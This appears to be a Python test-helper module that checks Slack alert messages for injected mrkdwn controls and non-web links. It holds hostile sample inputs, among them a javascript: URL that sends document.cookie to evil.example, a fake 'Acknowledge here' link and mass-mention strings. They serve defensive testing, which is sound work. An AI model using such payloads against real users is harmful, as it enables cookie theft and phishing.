"""What a hostile alert must never become in a sink: Slack mrkdwn controls, non-web links."""
from __future__ import annotations

import re
from typing import Any, Iterable
from urllib.parse import urlsplit

# Text an attacker puts into labels, annotations and URLs: mass mentions, user and channel mentions, a link
# whose label pretends to be a button, and URLs that run code when clicked.
MENTIONS = "<!channel> <!here> <!everyone> <@U0ADMIN01> <#C0SECRET1> <!subteam^S0ONCALL>"
FAKE_LINK = "<https://evil.example/ack|Acknowledge here>"
HOSTILE_TEXT = f"{MENTIONS} {FAKE_LINK} & <b>bold</b>"
SCRIPT_URL = "javascript:fetch('//evil.example/'+document.cookie)//|<!channel>"
# An http(s) URL that carries mrkdwn controls of its own: it may be a link, but its text must not leave it.
TRICKY_WEB_URL = "https://prom.example/graph?g0.expr=up&x=<!channel>|Acknowledge here>"

_CONTROL = re.compile(r"<([^<>]*)>")


def mrkdwn_texts(blocks: Iterable[dict[str, Any]]) -> list[str]:
    """Every text of type mrkdwn in ``blocks`` (plain_text shows its characters as they are)."""
    out: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
                out.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(list(blocks))
    return out


def mrkdwn_problems(text: str, hosts: set[str]) -> list[str]:
    """Each ``<…>`` control in ``text`` that is not a link to an http(s) URL on one of ``hosts``, whose
    label holds no control and does not pretend to be an action."""
    problems = []
    for inner in _CONTROL.findall(text):
        target, _, label = inner.partition("|")
        parts = urlsplit(target)
        if parts.scheme not in ("http", "https") or parts.hostname not in hosts:
            problems.append(f"<{inner}>")
        elif "Acknowledge" in label or "!" in target.split("?")[0]:
            problems.append(f"<{inner}>")
    return problems


def web_only(urls: Iterable[str]) -> list[str]:
    """The URLs among ``urls`` that are not absolute http(s) URLs."""
    return [u for u in urls if urlsplit(u).scheme not in ("http", "https") or not urlsplit(u).netloc]
